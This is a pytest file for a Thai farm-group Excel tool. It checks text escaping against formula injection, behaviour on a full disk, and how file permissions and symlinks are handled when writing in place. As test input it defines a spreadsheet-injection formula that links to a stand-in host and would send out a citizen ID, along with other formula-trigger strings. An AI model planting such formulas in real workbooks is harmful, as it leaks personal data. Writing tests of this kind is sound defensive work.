"""The writing side of issue 13: text from input stays text in every writer (item 2), a full disk is a
message and leaves nothing behind (item 4), writing in place keeps the file's mode and follows a link (item 6).

Item 2: every writer gets an officer's formula-like text (``=HYPERLINK(…&F5,"สมชาย")``, in Excel a link
that sends the citizen ID in F5 away) and a ``081-234-5678``-like text; the cell must hold the very text
as a string (and, where openpyxl writes, with Excel's text marker, so that editing it keeps it text).

Item 4: a full disk is made two ways.  Deterministic and unprivileged: the command runs in a child whose
file-size limit (RLIMIT_FSIZE, SIGXFSZ ignored) makes every write beyond a few kB fail with EFBIG.  Real:
a tiny tmpfs filled up (ENOSPC), when this process may mount one (root in CI; skipped otherwise).
Both check the exit code and the code, that no output or temporary file is left beside the output, and
that the libraries' own temporary files (XlsxWriter's, LibreOffice's) are gone from the system temp folder.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import os
import random
import shutil
import stat
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner, Result

from kaset_xl.areas import district_area
from kaset_xl.certificate import CertificateData, render_certificate
from kaset_xl.cli import cli
from kaset_xl.fileio import atomic_output
from kaset_xl.issues import KasetError
from kaset_xl.workbook.builder import build_workbook
from kaset_xl.workbook.layout import LAYOUT
from sample_data import sample_data
from support import require_tool

ROOT = Path(__file__).resolve().parent.parent
PAI = ROOT / "workbooks" / "5803-Pai-2564.xlsx"
FORMULA = '=HYPERLINK("http://example.invalid/?id="&F5,"สมชาย")'
PHONE_LIKE = "081-234-5678"
APPROVED = "กลุ่มปลูกผักปลอดภัยบ้านแม่นาเติง"
ESTABLISH = LAYOUT.table("establish")
GROUPS = LAYOUT.table("groups")
MEMBERS = LAYOUT.table("members")
TODAY = "2021-09-30"


def run(*args: str) -> Result:
    result = CliRunner().invoke(cli, list(args))
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    return result


def sha(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


def _text_cells(path: Path, *texts: str) -> dict[str, list[Any]]:
    """Every cell of the workbook at ``path`` whose value is one of ``texts``, per text."""
    found: dict[str, list[Any]] = {t: [] for t in texts}
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in found:
                    found[cell.value].append(cell)
    return found


def _assert_text(cells: list[Any], *, marker: bool) -> None:
    assert cells, "the text was not written"
    for cell in cells:
        assert cell.data_type == "s", (cell.parent.title, cell.coordinate, cell.data_type)
        if marker:
            assert cell.quotePrefix, (cell.parent.title, cell.coordinate)


# ---------------------------------------------------------------- workbooks with hostile text


def _application(name: str) -> dict[str, Any]:
    row: dict[str, Any] = {
        "no": 1, "name": name, "house_no": "45/1", "moo": 3, "tambon": "ต.เวียงใต้", "main_activity": "ปลูกผักปลอดภัย",
        "applied": dt.date(2020, 11, 2), "checker": "นางสาวมะลิ คำแก้ว", "checked": dt.date(2020, 11, 20),
        "decision": "อนุมัติ", "certificate_no": "5803/2563/001", "certificate_date": dt.date(2020, 12, 12),
        "approver": "นายสมชาย ใจดี", "approver_position": "เกษตรอำเภอปาย",
    }
    for key in ("reg_shares", "reg_activities", "reg_money", "reg_membership", "reg_election", "reg_term",
                "reg_leaving", "doc_request", "doc_regulations", "doc_committee", "doc_members", "doc_plan"):
        row[key] = "ใช่"
    return row


def _applicants(group: str, count: int) -> list[dict[str, Any]]:
    from sample_data import make_citizen_id

    rng = random.Random(13)
    roles = ["ประธาน", "เลขานุการ", "เหรัญญิก"]
    return [{"group": group, "title": "นาย", "first_name": f"ผู้ขอ{i + 1}", "last_name": "ดอยสูง",
             "citizen_id": make_citizen_id(rng), "birth_date": dt.date(1970 + i, 3, 1 + i), "house_no": str(10 + i),
             "moo": 3, "tambon": "เวียงใต้", "phone": f"08{i:08d}", "farmer_id": f"58030{i:07d}",
             "role": roles[i] if i < len(roles) else "สมาชิก", "main_activity": "ปลูกผัก", "area_rai": 2.5 + i}
            for i in range(count)]


def _hostile_book(path: Path, selected: str | None = FORMULA) -> Path:
    """Pai's sample with two groups renamed to the hostile texts (``selected``: the name of the group in the
    programme, whose name score writes) and an approved application whose first applicant is named by the
    formula, with ``081-234-5678`` as surname and house number."""
    data = sample_data("5803")
    other = PHONE_LIKE if selected == FORMULA else FORMULA
    last, second = data.tables["groups"][-1]["name"], data.tables["groups"][-2]["name"]
    renames = {last: selected, second: other} if selected else {}
    for rows in data.tables.values():
        for row in rows:
            for key, value in row.items():
                if isinstance(value, str) and value in renames:
                    row[key] = renames[value]
    data.tables["establish"] = [_application(APPROVED)]
    if not selected:  # a workbook without errors (a district with errors is left out of the reports)
        data.tables["establish"][0].update(main_activity=FORMULA, certificate_no=PHONE_LIKE)
    people = _applicants(APPROVED, 12)
    people[0].update(first_name=FORMULA, last_name=PHONE_LIKE, house_no=PHONE_LIKE)
    data.tables["applicants"] = people
    build_workbook(path, district_area("5803"), 2564, data=data)
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _hostile_book(tmp_path_factory.mktemp("hostile") / "5803-Pai-2564.xlsx")


# ---------------------------------------------------------------- item 2: one writer each


@pytest.mark.parametrize("text", [FORMULA, PHONE_LIKE])
def test_score_writes_input_text_as_text_with_the_marker(text: str, tmp_path: Path) -> None:
    src = _hostile_book(tmp_path / "pai.xlsx", selected=text)
    out = tmp_path / "scored.xlsx"
    result = run("score", str(src), "-o", str(out), "--today", TODAY)
    assert result.exit_code in (0, 1), result.output
    written = [c for c in _text_cells(out, text)[text] if c.parent.title == LAYOUT.summary_sheet]  # score's writes
    assert len(written) >= 3  # the group's rows of the summary
    _assert_text(written, marker=True)


def test_register_command_writes_input_text_as_text_with_the_marker(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "registered.xlsx"
    result = run("register", str(hostile), "--group", APPROVED, "-o", str(out))
    assert result.exit_code in (0, 1), result.output
    ws = openpyxl.load_workbook(out)[MEMBERS.sheet]
    row = next(r for r in range(MEMBERS.first_data_row, MEMBERS.last_data_row + 1)
               if ws[f"{MEMBERS.letter('group')}{r}"].value == APPROVED)
    first, last, house = (ws[f"{MEMBERS.letter(k)}{row}"] for k in ("first_name", "last_name", "house_no"))
    assert (first.value, last.value, house.value) == (FORMULA, PHONE_LIKE, PHONE_LIKE)
    _assert_text([first, last, house], marker=True)


@pytest.mark.usefixtures("_engine")
def test_register_button_writes_input_text_as_text(hostile: Path, tmp_path: Path) -> None:
    """The bug of issue 13: the button wrote the applicant's name as a live =HYPERLINK formula."""
    from kaset_xl import xl
    from xl_engine_support import apply_actions, payload_from_file, remote_engine_problem

    payload = payload_from_file(hostile, active_sheet=LAYOUT.sheet_order.index(ESTABLISH.sheet))
    payload["book"]["selection"] = f"B{ESTABLISH.first_data_row}"
    problem = remote_engine_problem()
    if problem:  # pragma: no cover - only when the engine cannot start here
        pytest.skip(f"xlwings' remote engine cannot run here: {problem}")
    import xlwings as xw

    book = xw.Book(json=payload)
    xl.register(book)
    wb = openpyxl.load_workbook(hostile)
    done = apply_actions(wb, book.json()["actions"])
    assert not done.alerts, done.alerts
    out = tmp_path / "engine.xlsx"
    wb.save(out)
    ws = openpyxl.load_workbook(out)[MEMBERS.sheet]
    row = next(r for r in range(MEMBERS.first_data_row, MEMBERS.last_data_row + 1)
               if ws[f"{MEMBERS.letter('group')}{r}"].value == APPROVED)
    cells = [ws[f"{MEMBERS.letter(k)}{row}"] for k in ("first_name", "last_name", "house_no")]
    assert [c.value for c in cells] == [FORMULA, PHONE_LIKE, PHONE_LIKE]
    _assert_text(cells, marker=True)


@pytest.mark.usefixtures("_engine")
@pytest.mark.parametrize("text", [FORMULA, PHONE_LIKE, "@SUM(A1)", "+66812345678"])
def test_button_writes_of_input_text_stay_text(text: str) -> None:
    """Every button write (the results sheet's messages, the status, the score's cells) goes through the
    same function: only kaset_xl's own links are formulas."""
    from kaset_xl import xl
    from kaset_xl.issues import make_issue
    from xl_engine_support import apply_actions, payload_from_file, remote_engine_problem

    problem = remote_engine_problem()
    if problem:  # pragma: no cover
        pytest.skip(f"xlwings' remote engine cannot run here: {problem}")
    import xlwings as xw

    book = xw.Book(json=payload_from_file(PAI))
    link = xl._link(make_issue("REQUIRED_MISSING", sheet=GROUPS.sheet, cell="B5", field="name"))
    xl._write(book.sheets["สรุปผล"], 5, 1, [[text, link]])
    wb = openpyxl.load_workbook(PAI)
    apply_actions(wb, book.json()["actions"])
    a5, b5 = wb["สรุปผล"]["A5"], wb["สรุปผล"]["B5"]
    assert (a5.value, a5.data_type) == (text, "s")
    assert b5.data_type == "f" and str(b5.value).startswith("=HYPERLINK(\"#")


@pytest.fixture
def _engine(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XLWINGS_LICENSE_KEY", "noncommercial")


def test_provincial_workbook_writes_district_text_as_text(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    _hostile_book(folder / "5803-Pai-2564.xlsx", selected=None)
    out = tmp_path / "province.xlsx"
    result = run("consolidate", str(folder), "-o", str(out), "--jobs", "1", "--today", TODAY)
    assert result.exit_code in (0, 1), result.output
    found = _text_cells(out, FORMULA, PHONE_LIKE)
    for text in (FORMULA, PHONE_LIKE):
        _assert_text(found[text], marker=False)
    import zipfile

    with zipfile.ZipFile(out) as z:  # not one formula in any sheet (a chart's <f> is its data range)
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)


def _certificate(name: str, house: str) -> CertificateData:
    return CertificateData(group_name=name, tambon="เวียงใต้", district="ปาย", province="แม่ฮ่องสอน",
                           certificate_no=PHONE_LIKE, certificate_date=dt.date(2020, 12, 12), approver=FORMULA,
                           approver_position="เกษตรอำเภอปาย", office="สำนักงานเกษตรอำเภอปาย", house_no=house)


def test_certificate_writes_input_text_as_text(tmp_path: Path) -> None:
    out = render_certificate(_certificate(FORMULA, PHONE_LIKE), tmp_path / "c.xlsx")
    found = _text_cells(out, FORMULA, f"({FORMULA})")
    _assert_text(found[FORMULA] + found[f"({FORMULA})"], marker=False)
    assert len(found[FORMULA]) == 1


# ---------------------------------------------------------------- item 4: a full disk


def _approved_book(tmp_path: Path) -> Path:
    return _hostile_book(tmp_path / "approved.xlsx")


def _command(kind: str, folder: Path, src: Path, approved: Path) -> tuple[list[str], Path]:
    """(arguments, the output) of ``kind`` writing into ``folder`` (inputs are copied there when written in place)."""
    if kind == "consolidate":
        return ["consolidate", str(src.parent), "-o", str(folder / "province.xlsx"), "--jobs", "1"], \
            folder / "province.xlsx"
    if kind == "score":
        work = folder / "pai.xlsx"
        shutil.copy(src, work)
        return ["score", str(work), "--today", TODAY], work
    if kind == "register":
        work = folder / "approved.xlsx"
        shutil.copy(approved, work)
        return ["register", str(work), "--group", APPROVED], work
    if kind == "template":
        return ["template", "-p", "58", "-d", "5803", "-y", "2564", "-o", str(folder / "t.xlsx")], folder / "t.xlsx"
    if kind == "certificate-pdf":
        return ["certificate", str(approved), "--group", APPROVED, "-o", str(folder / "c.pdf")], folder / "c.pdf"
    return ["certificate", str(approved), "--group", APPROVED, "-o", str(folder / "c.xlsx")], folder / "c.xlsx"


KINDS = ["consolidate", "score", "register", "template", "certificate"]


@pytest.fixture(scope="module")
def approved(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _approved_book(tmp_path_factory.mktemp("approved"))


@pytest.fixture(scope="module")
def pai_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("pai")
    shutil.copy(PAI, folder / PAI.name)
    return folder / PAI.name


def _full_disk_child(argv: list[str], cwd: Path, systmp: Path, limit: int) -> subprocess.CompletedProcess[str]:
    """Run the CLI in a child that cannot write a file beyond ``limit`` bytes (EFBIG, as on a full disk)."""
    code = textwrap.dedent(f"""
        import resource, signal, sys
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, {limit}))
        from kaset_xl.cli import cli
        cli.main({argv!r}, prog_name="kaset-xl")
    """)
    env = {**os.environ, "TMPDIR": str(systmp), "PYTHONDONTWRITEBYTECODE": "1", "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-c", code], cwd=cwd, capture_output=True, text=True, timeout=300,
                          env=env)


def _leftovers(folder: Path, keep: set[str]) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name not in keep)


@pytest.mark.skipif(not hasattr(__import__("signal"), "SIGXFSZ"), reason="needs RLIMIT_FSIZE (POSIX)")
@pytest.mark.parametrize("kind", KINDS)
def test_a_write_that_fails_for_lack_of_space_is_a_message_and_leaves_nothing(
        kind: str, tmp_path: Path, pai_folder: Path, approved: Path) -> None:
    out_dir, systmp = tmp_path / "out", tmp_path / "systmp"
    out_dir.mkdir()
    systmp.mkdir()
    argv, output = _command(kind, out_dir, pai_folder, approved)
    before = {p.name: sha(p) for p in out_dir.iterdir()}
    done = _full_disk_child(argv, tmp_path, systmp, 4 * 1024)
    assert done.returncode == 2, done.stderr
    assert "[OUTPUT_WRITE_FAILED]" in done.stderr and "Traceback" not in done.stderr + done.stdout, done.stderr
    assert {p.name: sha(p) for p in out_dir.iterdir()} == before  # no output, no temporary file, inputs intact
    assert _leftovers(systmp, set()) == []  # the libraries' scratch files are gone too


def _mount_tmpfs(folder: Path, size: str) -> bool:
    if not hasattr(os, "geteuid") or os.geteuid() != 0 or shutil.which("mount") is None:
        return False
    folder.mkdir(parents=True, exist_ok=True)
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(folder)],
                          capture_output=True, text=True)
    return done.returncode == 0


@pytest.fixture
def full_disk(tmp_path: Path) -> Iterator[Path]:
    """A small tmpfs (root only; skipped otherwise), to be filled up by the test."""
    folder = tmp_path / "full"
    if not _mount_tmpfs(folder, "2m"):
        pytest.skip("cannot mount a tmpfs here (needs root and permission to mount)")
    try:
        yield folder
    finally:
        subprocess.run(["umount", "-l", str(folder)], capture_output=True)


def _fill(folder: Path) -> None:
    """Fill the file system of ``folder`` to the last byte."""
    with open(folder / "filler", "wb", buffering=0) as f:
        try:
            while True:
                f.write(b"\0" * 4096)
        except OSError:
            pass


@pytest.mark.parametrize("kind", [*KINDS, pytest.param("certificate-pdf", marks=pytest.mark.libreoffice)])
def test_a_really_full_disk_is_a_message_and_leaves_nothing(kind: str, full_disk: Path, tmp_path: Path,
                                                            pai_folder: Path, approved: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    if kind == "certificate-pdf":
        require_tool("soffice", "libreoffice")
    systmp = tmp_path / "systmp"
    systmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(systmp))
    argv, _ = _command(kind, full_disk, pai_folder, approved)
    _fill(full_disk)
    before = {p.name: sha(p) for p in full_disk.iterdir()}
    result = run(*argv)
    assert result.exit_code == 2, result.output
    assert "[OUTPUT_WRITE_FAILED]" in result.output and "ENOSPC" in result.output, result.output
    assert {p.name: sha(p) for p in full_disk.iterdir()} == before
    assert _leftovers(systmp, set()) == []


def test_write_failure_is_found_inside_a_library_error(tmp_path: Path) -> None:
    from xlsxwriter.exceptions import FileCreateError

    with pytest.raises(KasetError) as err:
        with atomic_output(tmp_path / "x.xlsx"):
            raise FileCreateError(OSError(28, "No space left on device"))
    assert err.value.code == "OUTPUT_WRITE_FAILED"
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(ValueError):  # a bug stays a bug
        with atomic_output(tmp_path / "x.xlsx"):
            raise ValueError("not a write failure")


# ---------------------------------------------------------------- item 6: writing in place


def _mode(p: Path) -> int:
    return stat.S_IMODE(os.stat(p).st_mode)


@pytest.mark.parametrize("kind", ["score", "register"])
def test_writing_in_place_keeps_the_permission_bits(kind: str, tmp_path: Path, approved: Path) -> None:
    argv, work = _command(kind, tmp_path, PAI, approved)
    os.chmod(work, 0o600)
    before = sha(work)
    result = run(*argv)
    assert result.exit_code in (0, 1), result.output
    assert sha(work) != before and _mode(work) == 0o600


@pytest.mark.parametrize("kind", ["score", "register"])
def test_a_read_only_file_is_refused_and_left_as_it_is(kind: str, tmp_path: Path, approved: Path) -> None:
    argv, work = _command(kind, tmp_path, PAI, approved)
    os.chmod(work, 0o444)
    before = sha(work)
    result = run(*argv)
    assert result.exit_code == 2 and "[OUTPUT_READ_ONLY]" in result.output, result.output
    assert sha(work) == before and _mode(work) == 0o444
    assert sorted(p.name for p in tmp_path.iterdir()) == [work.name]


@pytest.mark.parametrize("kind", ["score", "register"])
def test_writing_through_a_symbolic_link_updates_the_target(kind: str, tmp_path: Path, approved: Path) -> None:
    real_dir = tmp_path / "real"
    real_dir.mkdir()
    argv, work = _command(kind, real_dir, PAI, approved)
    os.chmod(work, 0o640)
    link = tmp_path / "link.xlsx"
    link.symlink_to(work)
    before = sha(work)
    result = run(*[str(link) if a == str(work) else a for a in argv])
    assert result.exit_code in (0, 1), result.output
    assert link.is_symlink() and os.readlink(link) == str(work)
    assert sha(work) != before and _mode(work) == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.xlsx", "real"]
    assert sorted(p.name for p in real_dir.iterdir()) == [work.name]


@pytest.mark.usefixtures("_engine")
def test_certificate_button_keeps_the_mode_of_the_file_it_replaces(
        approved: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The buttons' saves: the certificate button replaces an earlier certificate of the group."""
    from kaset_xl import xl
    from xl_engine_support import payload_from_file, remote_engine_problem

    problem = remote_engine_problem()
    if problem:  # pragma: no cover
        pytest.skip(f"xlwings' remote engine cannot run here: {problem}")
    import xlwings as xw

    monkeypatch.setenv("KASET_SOFFICE", str(tmp_path / "no-such-soffice"))  # the .xlsx, without LibreOffice
    folder = tmp_path / "certs"
    folder.mkdir()
    earlier = folder / f"ใบรับรอง-{APPROVED}.xlsx"

    def click() -> None:
        payload = payload_from_file(approved, active_sheet=LAYOUT.sheet_order.index(ESTABLISH.sheet))
        payload["book"]["selection"] = f"B{ESTABLISH.first_data_row}"
        xl.certificate(xw.Book(json=payload), folder=str(folder))

    earlier.write_bytes(b"an earlier certificate")
    os.chmod(earlier, 0o600)
    click()
    assert earlier.read_bytes()[:2] == b"PK" and _mode(earlier) == 0o600
    os.chmod(earlier, 0o444)
    before = sha(earlier)
    click()
    assert sha(earlier) == before and _mode(earlier) == 0o444  # refused (the officer is told), not replaced


def test_atomic_output_follows_a_chain_of_links_and_keeps_the_mode(tmp_path: Path) -> None:
    real = tmp_path / "real.txt"
    real.write_text("old")
    os.chmod(real, 0o604)
    one, two = tmp_path / "one", tmp_path / "two"
    one.symlink_to(real)
    two.symlink_to(one)
    with atomic_output(two) as tmp:
        tmp.write_text("new")
    assert real.read_text() == "new" and _mode(real) == 0o604
    assert one.is_symlink() and two.is_symlink()
    fresh = tmp_path / "fresh.txt"
    with atomic_output(fresh) as tmp:
        tmp.write_text("x")
    umask = os.umask(0)
    os.umask(umask)
    assert _mode(fresh) == 0o666 & ~umask  # a new file: the usual mode, not mkstemp's 0600


@pytest.mark.usefixtures("_engine")
def test_a_button_failing_on_a_full_disk_still_gives_its_message(tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """The log of an unexpected failure cannot be written either (the temp folder is unusable): the button
    still shows its short message, never a traceback."""
    import kaset_xl.validate
    from kaset_xl import xl
    from xl_engine_support import apply_actions, payload_from_file, remote_engine_problem

    problem = remote_engine_problem()
    if problem:  # pragma: no cover
        pytest.skip(f"xlwings' remote engine cannot run here: {problem}")
    import xlwings as xw

    def boom(*args: Any, **kwargs: Any) -> None:
        raise RuntimeError("planted failure")

    monkeypatch.setattr(kaset_xl.validate, "validate_book", boom)
    not_a_folder = tmp_path / "a-file"
    not_a_folder.write_text("")
    monkeypatch.setattr(tempfile, "tempdir", str(not_a_folder))  # every write below it fails
    book = xw.Book(json=payload_from_file(PAI))
    xl.validate(book)
    done = apply_actions(openpyxl.load_workbook(PAI), book.json()["actions"])
    assert len(done.alerts) == 1 and "RuntimeError" in done.alerts[0][0] and "Traceback" not in done.alerts[0][0]
